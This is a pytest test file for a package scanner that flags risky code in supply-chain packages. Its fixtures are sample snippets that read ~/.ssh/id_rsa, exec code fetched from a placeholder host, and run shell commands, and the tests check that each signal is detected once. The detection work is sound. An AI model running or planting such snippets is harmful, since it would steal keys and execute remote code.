"""Signals: each once, at its first place."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.package import Package
from yanmen.supply.packages.studying import study
from yanmen.supply.packages.weighing import weights
from yanmen.supply.packages.weighing.signals import signals

Make = Callable[..., Package]
SEEN = [
    ("runs a command unasked", "import os\nos.system('tool')\nos.system('other')"),
    ("asks the network unasked", "import requests\nrequests.get('https://a.b.invalid/x')"),
    ("reads secrets", "import os\ndef f():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
    (
        "runs what it downloads",
        "import requests\ndef f():\n    exec(requests.get('https://a.b.invalid/x').text)",
    ),
    (
        "asks an address that it was told",
        "import requests\ndef f():\n    requests.get(requests.get('https://a.b.invalid').text)",
    ),
]


@pytest.mark.parametrize(("name", "code"), SEEN)
def test_it_sees(name: str, code: str, make: Make) -> None:
    """The signal, once, in the member and the line."""
    found = [one for one in signals(study(make({"inert/__init__.py": code}))) if one.name == name]

    assert len(found) == 1
    assert found[0].member == "inert/__init__.py"
    assert found[0].line > 1


def test_plain_code_has_none(make: Make) -> None:
    """Nothing is seen of code that does nothing."""
    assert not list(signals(study(make({"inert/__init__.py": "def add(a, b):\n    return a + b\n"}))))


def test_every_weight_is_of_a_signal_that_can_be_seen(make: Make) -> None:
    """One signal is never enough, however much it weighs."""
    by = weights()

    assert by.least > 1
    assert all(by.score(frozenset({name})) == 0 for name in by.weights)
    assert by.score(frozenset(by.weights)) > by.threshold
    assert 0 < by.confidence(0.0) < by.confidence(by.threshold) < 1
    del make
